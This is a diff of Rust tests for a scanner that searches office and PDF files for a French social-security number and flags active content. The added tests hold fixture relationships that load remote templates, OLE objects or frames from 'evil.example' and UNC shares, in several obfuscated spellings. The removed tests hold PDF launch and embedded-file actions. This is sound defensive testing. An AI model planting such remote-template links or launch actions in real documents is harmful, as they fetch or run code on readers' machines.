@@ -1,3 +1,5 @@
+mod pdf;
+
 use std::os::unix::process::ExitStatusExt as _;
 use std::process::ExitStatus;
 
@@ -5,7 +7,8 @@ use nix::sys::signal::Signal;
 use relais_domain::document::FileType;
 
 use super::{Told, judge};
-use crate::content::samples::{Packed, compound, docx, docx_with, odt, page, pdf, sheet, zip};
+use crate::content;
+use crate::content::samples::{Packed, book, compound, compound_of, docx, docx_with, letter, odt, record, sheet, sheet_of, zip};
 
 const NIR: &str = "1 85 05 78 006 084 91";
 const CLEAN: Told = Told::Nothing { had_text: true };
@@ -53,6 +56,101 @@ fn open_documents_and_sheets() {
     assert_eq!(judge(FileType::Xlsx, &sheet(&numbers)), CLEAN, "a row of numbers is no number");
     let counted = "<c t=\"s\"><v>185057800608491</v></c>";
     assert_eq!(judge(FileType::Xlsx, &sheet(counted)), Told::Nothing { had_text: false }, "a count of strings is no number");
+}
+
+#[test]
+fn a_formula_does_not_go_on_in_what_comes_of_it() {
+    for cell in [
+        "<c t=\"str\"><f>A2&amp;B2</f><v>185057800608491</v></c>",
+        "<c t=\"str\"><f>A2*1</f><v>1.85057800608491E+14</v></c>",
+        "<c><v>185057800608491</v><f>1</f></c>",
+        "<c t=\"s\"><f>\"1 85 05 78 006 084 91\"</f><v>1</v></c>",
+        "<c><f>185057800608491</f></c>",
+        "<x:c><x:f>A2</x:f><x:v>185057800608491</x:v></x:c>",
+    ] {
+        assert_eq!(judge(FileType::Xlsx, &sheet(cell)), Told::Forbidden, "{cell}");
+    }
+    let boxes: String = NIR.chars().filter(|c| *c != ' ').map(|c| format!("<c><f>MID(A1,1,1)</f><v>{c}</v></c>")).collect();
+    assert_eq!(judge(FileType::Xlsx, &sheet(&boxes)), Told::Forbidden, "a box for each digit");
+    let parted = "<c><f>1 85 05 78</f><v>006 084 91</v></c>";
+    assert_eq!(judge(FileType::Xlsx, &sheet(parted)), CLEAN, "two texts");
+    let counted = "<c t=\"s\"><f>A2</f><v>185057800608491</v></c>";
+    assert_eq!(judge(FileType::Xlsx, &sheet(counted)), CLEAN, "a count of strings is no number");
+    let drawn = "<w:p><w:t>1 85 05 7</w:t><a:pt x=\"1\" y=\"2\"/><v:f eqn=\"sum 1 0 2\"/><w:t>8 006 084 91</w:t></w:p>";
+    assert_eq!(judge(FileType::Docx, &docx(drawn)), Told::Forbidden, "a drawing parts no line");
+}
+
+#[test]
+fn what_charts_and_tables_over_a_sheet_keep_of_it_is_read() {
+    let with =
+        |name: &'static str, body: &str| judge(FileType::Docx, &zip(&docx_with("<w/>", vec![Packed::honest(name, body.as_bytes())])));
+    let kept = |value: &str| {
+        let drawn = format!(
+            "<c:formatCode>0</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>{value}</c:v></c:pt><c:pt idx=\"1\"><c:v>7</c:v></c:pt>"
+        );
+        let newer = format!("<cx:f>Sheet1!$A$1</cx:f><cx:lvl><cx:pt idx=\"0\">{value}</cx:pt><cx:pt idx=\"1\">7</cx:pt></cx:lvl>");
+        let records = ["n", "s"].map(|kind| format!("<r><{kind} v=\"{value}\"/><x v=\"1\"/></r>"));
+        [
+            with("word/charts/chart1.xml", &drawn),
+            with("word/charts/chartEx1.xml", &newer),
+            with("x/a.xml", &records[0]),
+            with("x/b.xml", &records[1]),
+        ]
+    };
+    for value in ["185057800608491", "1.85057800608491E+14", NIR] {
+        assert_eq!(kept(value), [Told::Forbidden; 4], "{value}");
+    }
+    assert!(kept("185057800608492").iter().all(|told| matches!(told, Told::Nothing { .. })), "another number");
+    assert_eq!(with("x/c.xml", "<d v=\"185057800608491\"/>"), Told::Nothing { had_text: false }, "what holds anything elsewhere");
+    let figures: String = NIR.chars().filter(|c| *c != ' ').map(|c| format!("<c:pt><c:v>{c}</c:v></c:pt>")).collect();
+    assert_eq!(with("word/charts/chart1.xml", &figures), CLEAN, "a curve is no row of boxes");
+}
+
+#[test]
+fn what_a_program_fetches_from_another_machine_is_no_part_of_a_letter() {
+    let related = |kind: &str, target: &str, mode: &str| {
+        let rels = format!(
+            "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\" {mode}/></Relationships>"
+        );
+        judge(
+            FileType::Docx,
+            &zip(&docx_with("<w:p><w:t>Bonjour</w:t></w:p>", vec![Packed::honest("word/_rels/settings.xml.rels", rels.as_bytes())])),
+        )
+    };
+    let external = "TargetMode=\"External\"";
+    for target in [
+        "http://evil.example/a.dotm",
+        "HTTPS://evil.example/a.dotm",
+        "&#104;ttp://evil.example/a.dotm",
+        "ftp:evil.example/a",
+        "mhtml:http://evil.example/a!x",
+        "\\\\10.0.0.1\\share\\a.dotm",
+        "//10.0.0.1/share/a.dotm",
+        "file://10.0.0.1/share/a.dotm",
+        "file:///\\10.0.0.1\\share\\a.dotm",
+        "file:////10.0.0.1/share/a.dotm",
+        "file:///%5c%5C10.0.0.1/share/a.dotm",
+    ] {
+        for kind in ["attachedTemplate", "oleObject", "frame"] {
+            assert_eq!(related(kind, target, external), Told::Active, "{kind} {target}");
+        }
+        for (kind, mode) in [("hyperlink", external), ("image", external), ("externalLinkPath", external), ("attachedTemplate", "")] {
+            assert_eq!(related(kind, target, mode), CLEAN, "{kind} {target}");
+        }
+    }
+    for target in [
+        "file:///C:/Users/Sow/Templates/Normal.dotm",
+        "file:///C:\\Users\\Sow\\Normal.dotm",
+        "file://C:/Normal.dotm",
+        "C:\\Normal.dotm",
+        "file:/home/sow/a.ott",
+        "Lettre%20type.dotm",
+        "../a/b.dotx",
+    ] {
+        assert_eq!(related("attachedTemplate", target, external), CLEAN, "{target}");
+    }
+    let two = "x:TargetMode=\"Internal\" TargetMode=\"External\"";
+    assert_eq!(related("attachedTemplate", "http://evil.example", two), Told::Active, "a name of another vocabulary says nothing");
 }
 
 #[test]
@@ -142,72 +240,6 @@ fn numbers_of_older_sheets_are_read_as_numbers() {
     assert_eq!(judge(FileType::Xls, &sheet(b"picture", 185_057_800_608_491.0)), CLEAN, "what stands nowhere in a sheet is chance");
 }
 
-/// The same file with all of its objects packed.
-fn packed(file: &[u8]) -> Vec<u8> {
-    let mut document = pdf_extract::Document::load_mem(file).unwrap();
-    let options = pdf_extract::SaveOptions::builder().use_object_streams(true).use_xref_streams(true);
-    let options = options.max_objects_per_stream(100).compression_level(9).build();
-    let mut written = vec![];
-    document.save_with_options(&mut written, options).unwrap();
-    written
-}
-
-#[test]
-fn what_a_pdf_starts_or_carries_is_found_however_it_is_packed() {
-    let actions = [
-        "<< /S /Launch /F (x.exe) >>",
-        "<< /S /L#61unch /F (x.exe) >>",
-        "<< /Type /Filespec /F (x.docx) /EF << /F 4 0 R >> >>",
-        "<< /Names << /EmbeddedFiles << /Names [] >> >> >>",
-        "<< /Subtype /RichMedia >>",
-    ];
-    // What does not become smaller is left open: something beside it makes it worth the while.
-    let beside = format!("({})", "a".repeat(2000));
-    for action in actions {
-        let open = pdf("", &[action, &beside]);
-        let hidden = packed(&open);
-        assert!(!hidden.windows(4).any(|bytes| bytes == b"x.ex" || bytes == b"/EF "), "it is packed");
-        for file in [open, hidden] {
-            assert_eq!(judge(FileType::Pdf, &file), Told::Active, "{action}");
-        }
-    }
-    let script = "<< /S /JavaScript /JS (AFSimple_Calculate) >>";
-    assert_eq!(judge(FileType::Pdf, &packed(&pdf("BT /F1 12 Tf (Bonjour) Tj ET", &[script]))), CLEAN);
-}
-
-#[test]
-fn texts_of_a_pdf_are_searched_and_its_drawings_are_not() {
-    let note = format!("<< /Length {} >>\nstream\n{NIR}\nendstream", NIR.len());
-    assert_eq!(judge(FileType::Pdf, &pdf("", &[&note])), Told::Forbidden);
-    assert_eq!(judge(FileType::Pdf, &packed(&pdf("", &[&note]))), Told::Forbidden);
-    let lines = "1 85 05 78 006 084 91 re f";
-    assert_eq!(judge(FileType::Pdf, &pdf(lines, &[])), Told::Nothing { had_text: false }, "coordinates");
-    let left = format!("<< /Length {} >>\nstream\n{lines}\nendstream", lines.len());
-    assert_eq!(judge(FileType::Pdf, &pdf("", &[&left])), Told::Nothing { had_text: false }, "coordinates that nothing shows any more");
-}
-
-#[test]
-fn a_pdf_is_read_with_its_fields() {
-    assert_eq!(judge(FileType::Pdf, &page(NIR)), Told::Forbidden);
-    assert_eq!(judge(FileType::Pdf, &page("Bonjour")), CLEAN);
-    let field = format!("<< /FT /Tx /T (numero) /V ({NIR}) >>");
-    assert_eq!(judge(FileType::Pdf, &pdf("", &[&field])), Told::Forbidden, "in a field");
-    let wide: String = NIR.encode_utf16().map(|unit| format!("{unit:04X}")).collect();
-    assert_eq!(judge(FileType::Pdf, &pdf("", &[&format!("<< /Title <FEFF{wide}> >>")])), Told::Forbidden, "in the title");
-    assert_eq!(judge(FileType::Pdf, b"%PDF-1.7\nnothing\n%%EOF"), Told::Unreadable);
-}
-
-#[test]
-fn a_pdf_whose_font_is_unknown_is_searched_in_the_forms_that_it_shows() {
-    let shows = |drawing: &str| {
-        let form = format!("<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length {} >>\nstream\n{drawing}\nendstream", drawing.len());
-        judge(FileType::Pdf, &pdf("BT /Unknown 12 Tf (Bonjour) Tj ET", &[&form]))
-    };
-    assert_eq!(shows("BT (Bonjour) Tj ET"), CLEAN);
-    assert_eq!(shows(&format!("BT ({NIR}) Tj ET")), Told::Forbidden);
-    assert_eq!(shows("BT [(1 85 05) -20 (78 006 )] TJ (084 91) ' ET"), Told::Forbidden, "in parts");
-}
-
 #[test]
 fn older_files_are_searched_byte_by_byte() {
     let mut narrow = compound(&["WordDocument"]);
@@ -218,6 +250,44 @@ fn older_files_are_searched_byte_by_byte() {
     assert_eq!(judge(FileType::Doc, &narrow), Told::Forbidden);
     assert_eq!(judge(FileType::Xls, &wide), Told::Forbidden);
     assert_eq!(judge(FileType::Doc, &compound(&["WordDocument"])), CLEAN);
+}
+
+#[test]
+fn older_files_that_are_locked_are_read_by_nobody() {
+    let told = |kind: FileType, name: &str, stream: Vec<u8>| judge(kind, &compound_of(&[(name, stream)]));
+    let (lock, write_lock, text) = (record(0x002f, &[1, 0, 1, 0]), record(0x0086, &[]), record(0x00fc, &[0; 5000]));
+    for locked in [vec![lock.clone()], vec![write_lock.clone(), lock.clone()], vec![lock.clone(), text.clone()]] {
+        assert_eq!(told(FileType::Xls, "Workbook", book(&locked)), Told::Unreadable);
+        assert_eq!(told(FileType::Xls, "bOOk", book(&locked)), Told::Unreadable, "of an older Excel");
+    }
+    assert_eq!(told(FileType::Xls, "Workbook", book(&[write_lock, text])), CLEAN, "locked for writing alone");
+    let scrambled = compound_of(&[("Workbook", book(&[lock.clone(), sheet_of(0, 1)]))]);
+    assert!(content::inspect(FileType::Xls, scrambled.clone()).is_ok(), "what a locked record says is chance");
+    assert_eq!(judge(FileType::Xls, &scrambled), Told::Unreadable);
+    let two = compound_of(&[("Workbook", book(&[])), ("Book", book(&[lock]))]);
+    assert_eq!(judge(FileType::Xls, &two), Told::Unreadable, "one of two");
+
+    for (flags, expected) in [(0x0100, Told::Unreadable), (0x12f0, CLEAN), (0x0000, CLEAN), (0x8300, Told::Unreadable)] {
+        let (small, large) = (letter(flags), [letter(flags), vec![0; 5000]].concat());
+        assert_eq!(told(FileType::Doc, "WordDocument", small), expected, "{flags:x}");
+        assert_eq!(told(FileType::Doc, "WORDDOCUMENT", large), expected, "{flags:x}");
+    }
+    let locked_and_told = [compound_of(&[("WordDocument", letter(0x0100))]), NIR.into()].concat();
+    assert_eq!(judge(FileType::Doc, &locked_and_told), Told::Forbidden, "what stands openly is found in any");
+}
+
+#[test]
+fn older_files_whose_streams_are_not_found_are_read_by_nobody() {
+    for (kind, file) in [
+        (FileType::Xls, compound(&["WordDocument"])),
+        (FileType::Doc, compound(&["Workbook"])),
+        (FileType::Doc, compound_of(&[("WordDocument", b"{\\rtf1 no text of Word}".to_vec())])),
+        (FileType::Xls, compound_of(&[("Workbook", record(0x0809, &[0; 8]))])),
+        (FileType::Doc, [&compound(&["WordDocument"])[..48], &[0xff; 2000]].concat()),
+        (FileType::Doc, vec![]),
+    ] {
+        assert_eq!(judge(kind, &file), Told::Unreadable, "{kind}");
+    }
 }
 
 #[test]
